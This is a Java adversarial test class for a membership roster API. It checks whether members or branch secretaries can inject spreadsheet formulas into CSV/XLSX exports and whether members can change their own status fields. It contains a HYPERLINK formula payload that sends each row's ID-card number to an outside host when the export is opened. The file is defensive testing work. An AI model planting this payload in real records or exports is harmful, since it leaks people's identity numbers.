package org.jiannuo.it.adversarial;

import static org.jiannuo.it.adversarial.Attack.Outcome.refusedIf;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import jakarta.json.JsonObjectBuilder;
import java.io.ByteArrayInputStream;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.UnaryOperator;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.jiannuo.it.support.HttpSession;

/** What a member can do to the roster through their own record, and what the roster's files then do (6, 7). */
final class RecordAttacks {

    /** The finding's own payload: sends the ID-card number (column C) of the row away when the file is opened. */
    static final String HYPERLINK = "=HYPERLINK(\"http://x.cn/?\"&C2,\"详情\")";

    private final Target target;

    RecordAttacks(Target target) {
        this.target = target;
    }

    List<Attack> attacks() {
        return List.of(
                new Attack(6, "a member names themselves =HYPERLINK(…)", () -> renameTo(Target.MEMBER)),
                new Attack(6, "a branch secretary names a member =HYPERLINK(…)", () -> renameTo(Target.BRANCH_SECRETARY)),
                new Attack(6, "=HYPERLINK(…) in a free-text field is a live formula in the roster's CSV", this::csvFormula),
                new Attack(6, "=HYPERLINK(…) in a free-text field is a formula cell in the roster's XLSX", this::xlsxFormula),
                new Attack(7, "a member sets their own party status, retired, infirm and floating", this::selfPromotion));
    }

    private Attack.Outcome renameTo(String editor) throws Exception {
        long own = target.me(Target.MEMBER, Target.DEMO_PASSWORD).getJsonNumber("personId").longValue();
        HttpSession http = target.client();
        JsonObject before = person(http, own);
        HttpResponse<String> renamed = revise(http, editor, own, before, profile -> profile.add("name", HYPERLINK));
        String name = before.getJsonObject("profile").getString("name");
        if (renamed.statusCode() < 300) {
            revise(http, Target.BRANCH_SECRETARY, own, Target.json(renamed), profile -> profile.add("name", name));
        }
        return refusedIf(renamed.statusCode() >= 400 && renamed.statusCode() < 500, "PUT " + Target.brief(renamed));
    }

    private Attack.Outcome csvFormula() throws Exception {
        return withPost(HYPERLINK, http -> {
            String csv = new String(http.getBytes("api/v1/people/export?format=CSV", Target.BRANCH_SECRETARY,
                    Target.DEMO_PASSWORD).body(), StandardCharsets.UTF_8);
            String line = csv.lines().filter(l -> l.contains("HYPERLINK")).findFirst().orElse("(no line carries it)");
            boolean live = line.contains(",\"=HYPERLINK") || line.contains(",=HYPERLINK");
            return refusedIf(!live && line.contains("'=HYPERLINK"), "exported line: " + line);
        });
    }

    private Attack.Outcome xlsxFormula() throws Exception {
        return withPost(HYPERLINK, http -> {
            byte[] xlsx = http.getBytes("api/v1/people/export?format=XLSX", Target.BRANCH_SECRETARY, Target.DEMO_PASSWORD)
                    .body();
            try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
                for (Row row : workbook.getSheetAt(0)) {
                    for (Cell cell : row) {
                        if (cell.getCellType() == CellType.FORMULA) {
                            return Attack.Outcome.gotThrough("formula cell " + cell.getAddress() + ": " + cell.getCellFormula());
                        }
                        if (cell.getCellType() == CellType.STRING && cell.getStringCellValue().equals(HYPERLINK)) {
                            return Attack.Outcome.refused("text cell " + cell.getAddress() + " reads " + HYPERLINK);
                        }
                    }
                }
            }
            return Attack.Outcome.gotThrough("the value is not in the export at all");
        });
    }

    /** Sets a free-text field (the post) of someone of the branch, as their secretary may, for the export's sake. */
    private Attack.Outcome withPost(String post, ExportCheck check) throws Exception {
        HttpSession http = target.client();
        long someone = Target.json(http.api("GET", "api/v1/people?size=1&first=2", Target.BRANCH_SECRETARY,
                Target.DEMO_PASSWORD, null, null)).getJsonArray("rows").getJsonObject(0).getJsonNumber("id").longValue();
        JsonObject before = person(http, someone);
        HttpResponse<String> set = revise(http, Target.BRANCH_SECRETARY, someone, before,
                profile -> profile.add("post", post).addNull("assignedPost"));
        if (set.statusCode() >= 300) {
            return Attack.Outcome.gotThrough("the secretary could not set the post: " + Target.brief(set));
        }
        try {
            return check.run(http);
        } finally {
            JsonObject after = Target.json(set);
            http.api("PUT", "api/v1/people/" + someone, Target.BRANCH_SECRETARY, Target.DEMO_PASSWORD,
                    Json.createObjectBuilder().add("version", after.getJsonNumber("version").longValue())
                            .add("profile", before.getJsonObject("profile")).build().toString(), null);
        }
    }

    @FunctionalInterface
    private interface ExportCheck {
        Attack.Outcome run(HttpSession http) throws Exception;
    }

    private Attack.Outcome selfPromotion() throws Exception {
        long own = target.me(Target.MEMBER, Target.DEMO_PASSWORD).getJsonNumber("personId").longValue();
        HttpSession http = target.client();
        JsonObject before = person(http, own);
        HttpResponse<String> promoted = revise(http, Target.MEMBER, own, before, profile -> profile
                .add("partyStatus", "PROBATIONARY_MEMBER").add("retired", true).add("infirm", true)
                .add("floating", true).add("floatingLocation", "深圳"));
        JsonObject after = person(http, own);
        if (promoted.statusCode() < 300) {
            http.api("PUT", "api/v1/people/" + own, Target.BRANCH_SECRETARY, Target.DEMO_PASSWORD,
                    Json.createObjectBuilder().add("version", after.getJsonNumber("version").longValue())
                            .add("profile", before.getJsonObject("profile")).build().toString(), null);
        }
        boolean unchanged = after.getJsonObject("profile").equals(before.getJsonObject("profile"));
        return refusedIf(promoted.statusCode() >= 400 && promoted.statusCode() < 500 && unchanged,
                "PUT " + Target.brief(promoted) + (unchanged ? "; record unchanged" : "; record changed"));
    }

    private static JsonObject person(HttpSession http, long id) throws Exception {
        return Target.json(http.api("GET", "api/v1/people/" + id, Target.BRANCH_SECRETARY, Target.DEMO_PASSWORD, null, null));
    }

    private static HttpResponse<String> revise(HttpSession http, String editor, long id, JsonObject person,
            UnaryOperator<JsonObjectBuilder> change) throws Exception {
        return http.api("PUT", "api/v1/people/" + id, editor, Target.DEMO_PASSWORD,
                Json.createObjectBuilder().add("version", person.getJsonNumber("version").longValue())
                        .add("profile", change.apply(Json.createObjectBuilder(person.getJsonObject("profile"))))
                        .build().toString(), null);
    }
}
